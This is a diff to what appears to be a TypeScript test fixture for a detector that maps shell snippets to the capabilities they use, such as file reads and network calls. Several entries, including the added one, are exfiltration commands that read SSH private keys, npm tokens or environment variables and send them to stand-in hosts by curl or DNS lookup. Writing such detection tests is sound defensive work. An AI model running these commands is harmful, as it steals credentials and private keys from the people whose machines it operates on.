@@ -15,6 +15,11 @@ const SENT: readonly (readonly [script: string, uses: readonly string[]])[] = [
   ['T=$(cut -d= -f2 ~/.npmrc)\ncurl -s -H "x: $T" https://a.invalid', ['fs:readFileSync <home>/.npmrc', ':fetch https://a.invalid']],
   ['dig +short "$(env | base64 -w0).b.invalid"', [':process.env', 'dns:resolve *.b.invalid']],
   ['ls ~/.ssh/id_* | xargs -I{} curl -s -F f=@{} https://a.invalid', ['fs:readFileSync <home>/.ssh/id_*', ':fetch https://a.invalid']],
+  [
+    'find "$HOME" -maxdepth 2 -name \'id_*\' -exec cat {} + > "$out"\ncurl --data-binary @"$out" https://a.invalid',
+    ['fs:readFileSync <home>/*/id_*', ':fetch https://a.invalid'],
+  ],
+  ['find src -name "id_*" -exec cat {} + > a\ncurl -d @a https://a.invalid', []],
   ['curl -fsSL https://a.invalid/x -o "$HOME/.cache/x"', []],
   ['cat ~/.npmrc\necho "curl -d is nice"', []],
   ['curl -s -d done=1 https://a.invalid', []],
